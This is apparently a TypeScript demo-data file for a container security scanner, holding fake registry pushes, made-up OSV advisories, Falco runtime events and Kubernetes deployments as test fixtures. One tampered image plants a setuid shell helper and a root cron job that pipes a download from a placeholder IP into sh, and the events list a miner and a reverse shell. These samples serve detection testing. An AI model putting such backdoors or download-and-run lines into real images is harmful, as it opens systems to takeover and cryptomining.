import { createHash } from 'node:crypto';

import type { DemoFile } from './tar.js';

/** A push to the demo registry, with what it shows. */
export interface DemoPush {
  repository: string;
  tag: string;
  /** Null for a manifest that the registry no longer has. */
  image: DemoImage | null;
}

export interface DemoImage {
  layers: readonly (readonly DemoFile[])[];
  config?: { Entrypoint?: string[]; User?: string; Env?: string[]; Labels?: Record<string, string> };
  /** An `artifactType` of its own: no image, such as a chart. */
  artifactType?: string;
}

function debian(version: string, packages: Readonly<Record<string, string>>): DemoFile[] {
  const stanzas = Object.entries(packages).map(
    ([name, packageVersion]) =>
      `Package: ${name}\nStatus: install ok installed\nArchitecture: amd64\nVersion: ${packageVersion}\n`,
  );
  return [
    {
      path: 'etc/os-release',
      content: `ID=debian\nVERSION_ID="${version}"\nPRETTY_NAME="Debian GNU/Linux ${version}"\n`,
    },
    { path: 'var/lib/dpkg/status', content: stanzas.join('\n') },
  ];
}

const base = {
  'base-files': '12.4+deb12u5',
  libc6: '2.36-9+deb12u4',
  openssl: '3.0.11-1~deb12u2',
  zlib1g: '1:1.2.13.dfsg-1',
};
/** Packages of the shop before and after its update. */
const shopBase = { ...base, curl: '7.88.1-10+deb12u5', libxml2: '2.9.14+dfsg-1.3~deb12u1', libexpat1: '2.5.0-1' };
const shopUpdated = {
  ...shopBase,
  openssl: '3.0.15-1~deb12u1',
  curl: '7.88.1-10+deb12u8',
  libxml2: '2.9.14+dfsg-1.3~deb12u2',
};

/** A key pair in the form of AWS that opens nothing, and is the same with every start. */
function madeUpKeys(): string {
  const hash = createHash('sha512').update('key of the demo').digest();
  const id = [...hash.subarray(0, 16)].map((byte) => 'ABCDEFGHIJKLMNOPQRSTUVWXYZ234567'.charAt(byte % 32)).join('');
  return `AWS_ACCESS_KEY_ID=AKIA${id}\nAWS_SECRET_ACCESS_KEY=${hash.subarray(16, 46).toString('base64')}\n`;
}

const webApp = (version: string): DemoFile[] => [
  { path: 'srv/web/server.js', content: `// Storefront ${version}\n` },
  { path: 'srv/web/package.json', content: JSON.stringify({ name: 'storefront', version, private: true }) },
];
const checkout: DemoFile[] = [{ path: 'srv/checkout/main.py', content: 'print("checkout")\n' }];
const app = { Entrypoint: ['/srv/web/server.js'], User: '1000' };

/** Pushes in the order in which they arrive. */
export const demoPushes: readonly DemoPush[] = [
  // No finding counts: passed.
  {
    repository: 'data/etl',
    tag: '2026.11',
    image: {
      layers: [debian('12', { ...base, openssl: '3.0.15-1~deb12u1' })],
      config: { User: '1000', Entrypoint: ['/bin/etl'] },
    },
  },
  // A vulnerable package, then the release that updates it.
  { repository: 'shop/web', tag: '1.4.0', image: { layers: [debian('12', shopBase), webApp('1.4.0')], config: app } },
  {
    repository: 'shop/web',
    tag: '1.4.1',
    image: { layers: [debian('12', shopUpdated), webApp('1.4.1')], config: app },
  },
  // A release tag, then other content under it: an unowned setuid program and a cron job that
  // downloads and runs.
  {
    repository: 'shop/checkout',
    tag: '2.1.0',
    image: { layers: [debian('12', shopBase), checkout], config: { Entrypoint: ['python3', '/srv/checkout/main.py'] } },
  },
  {
    repository: 'shop/checkout',
    tag: '2.1.0',
    image: {
      layers: [
        debian('12', shopBase),
        checkout,
        [
          { path: 'usr/local/bin/helper', content: '#!/bin/sh\nexec /bin/sh -p\n', mode: 0o4755 },
          { path: 'etc/cron.d/update', content: '* * * * * root curl -s http://198.51.100.7/u | sh\n' },
        ],
      ],
      config: { Entrypoint: ['python3', '/srv/checkout/main.py'] },
    },
  },
  // A distribution that gets no updates any more, and keys that were left in a layer.
  {
    repository: 'legacy/report',
    tag: '7',
    image: {
      layers: [debian('8', { openssl: '1.0.1t-1+deb8u8' }), [{ path: 'srv/report/.env', content: madeUpKeys() }]],
    },
  },
  // Without advisories for its distribution: not evaluated.
  {
    repository: 'edge/cache',
    tag: '3',
    image: {
      layers: [
        [
          { path: 'etc/os-release', content: 'ID=alpine\nVERSION_ID=3.22.1\nPRETTY_NAME="Alpine Linux v3.22"\n' },
          { path: 'lib/apk/db/installed', content: 'P:musl\nV:1.2.5-r10\nA:x86_64\nL:MIT\n\n' },
        ],
      ],
      config: { Entrypoint: ['/bin/cache'], User: '1000' },
    },
  },
  // A chart: no image.
  {
    repository: 'charts/shop',
    tag: '1.0.0',
    image: { layers: [], artifactType: 'application/vnd.cncf.helm.config.v1+json' },
  },
  // Deleted before it could be read: refused.
  { repository: 'tools/gone', tag: '1', image: null },
];

/** Made-up advisories of the demo, as OSV records. @see https://ossf.github.io/osv-schema/ */
export function demoAdvisories(now: Date): { id: string }[] {
  const modified = now.toISOString();
  const advisory = (id: string, name: string, fixed: string | null, cvss: string, summary: string) => ({
    id,
    modified,
    published: modified,
    summary,
    severity: [{ type: 'CVSS_V3', score: cvss }],
    affected: [
      {
        package: { ecosystem: 'Debian:12', name },
        ranges: [{ type: 'ECOSYSTEM', events: [{ introduced: '0' }, ...(fixed === null ? [] : [{ fixed }])] }],
      },
    ],
  });
  return [
    advisory(
      'DEMO-2026-1001',
      'openssl',
      '3.0.15-1~deb12u1',
      'CVSS:3.1/AV:N/AC:L/PR:N/UI:N/S:U/C:H/I:H/A:H',
      'Demo: remote code execution in a parser',
    ),
    advisory(
      'DEMO-2026-1002',
      'zlib1g',
      null,
      'CVSS:3.1/AV:L/AC:H/PR:L/UI:R/S:U/C:L/I:N/A:N',
      'Demo: small information leak without a fix',
    ),
    advisory(
      'DEMO-2026-1003',
      'libxml2',
      '2.9.14+dfsg-1.3~deb12u2',
      'CVSS:3.1/AV:N/AC:L/PR:N/UI:N/S:U/C:H/I:N/A:N',
      'Demo: external entities read files of the server',
    ),
    advisory(
      'DEMO-2026-1004',
      'curl',
      '7.88.1-10+deb12u8',
      'CVSS:3.1/AV:N/AC:H/PR:N/UI:R/S:U/C:L/I:L/A:N',
      'Demo: cookies are sent to another host after a redirect',
    ),
    advisory(
      'DEMO-2026-1005',
      'libexpat1',
      null,
      'CVSS:3.1/AV:L/AC:L/PR:L/UI:N/S:U/C:N/I:N/A:L',
      'Demo: nested entities take memory',
    ),
  ];
}

/** A runtime event of the demo, as Falco sends it. */
export interface DemoEvent {
  rule: string;
  priority: string;
  output: string;
  tags: string[];
  output_fields: Record<string, unknown>;
}

/** Events of a miner in the altered image, a reverse shell and a truncated log. */
export function demoEvents(registryHost: string): DemoEvent[] {
  const container = (id: string, repository: string, tag: string, namespace: string, pod: string) => ({
    'container.id': id,
    'container.image.repository': `${registryHost}/${repository}`,
    'container.image.tag': tag,
    'k8s.ns.name': namespace,
    'k8s.pod.name': pod,
  });
  const checkoutPod = container('5c0ffee00001', 'shop/checkout', '2.1.0', 'shop', 'checkout-7d9f-abcde');
  const webPod = container('5c0ffee00002', 'shop/web', '1.4.0', 'shop', 'web-5b8c-fghij');
  const etlPod = container('5c0ffee00003', 'data/etl', '2026.11', 'data', 'etl-6c4d-klmno');
  return [
    {
      rule: 'Redirect STDOUT/STDIN to Network Connection in Container',
      priority: 'Critical',
      output: 'Standard input and output of a shell lead to a network connection',
      tags: ['T1059'],
      output_fields: {
        ...webPod,
        'proc.name': 'bash',
        'proc.exepath': '/bin/bash',
        'proc.cmdline': 'bash -i',
        'proc.pid': 71,
      },
    },
    {
      rule: 'Clear Log Activities',
      priority: 'Warning',
      output: 'A log file was truncated',
      tags: ['T1070'],
      output_fields: {
        ...etlPod,
        'proc.name': 'sh',
        'proc.exepath': '/bin/sh',
        'proc.pid': 61,
        'fd.name': '/var/log/auth.log',
      },
    },
    {
      rule: 'Drop and execute new binary in container',
      priority: 'Critical',
      output: 'A binary that is not part of the image was executed',
      tags: ['TA0003'],
      output_fields: {
        ...checkoutPod,
        'proc.name': 'kworkerd',
        'proc.exepath': '/tmp/kworkerd',
        'proc.cmdline': '/tmp/kworkerd -o stratum+tcp://pool.example.net:3333',
        'proc.pid': 81,
      },
    },
    {
      rule: 'Outbound connection to mining pool',
      priority: 'Critical',
      output: 'Connection to a mining pool',
      tags: ['T1496'],
      output_fields: {
        ...checkoutPod,
        'proc.name': 'kworkerd',
        'proc.exepath': '/tmp/kworkerd',
        'proc.pid': 81,
        'fd.sip': '203.0.113.9',
        'fd.sport': 3333,
        'fd.name': '10.1.2.3:40112->203.0.113.9:3333',
      },
    },
  ];
}

/** Objects of a cluster as a watch of Kubernetes sends them: workloads and their settings. */
export function demoObjects(registryHost: string): object[] {
  const deployment = (namespace: string, name: string, image: string, pod: object, container: object) => ({
    type: 'ADDED',
    object: {
      apiVersion: 'apps/v1',
      kind: 'Deployment',
      metadata: { name, namespace, uid: `demo-${namespace}-${name}`, resourceVersion: '1', generation: 1 },
      spec: {
        replicas: 2,
        selector: { matchLabels: { app: name } },
        template: {
          metadata: { labels: { app: name } },
          spec: { ...pod, containers: [{ name, image: `${registryHost}/${image}`, ...container }] },
        },
      },
    },
  });
  return [
    deployment(
      'shop',
      'checkout',
      'shop/checkout:2.1.0',
      { hostNetwork: true, volumes: [{ name: 'root', hostPath: { path: '/' } }] },
      { securityContext: { privileged: true }, volumeMounts: [{ name: 'root', mountPath: '/host' }] },
    ),
    deployment('shop', 'web', 'shop/web:1.4.0', {}, { securityContext: { runAsNonRoot: true } }),
    deployment('data', 'etl', 'data/etl:2026.11', { hostPID: true }, {}),
  ];
}
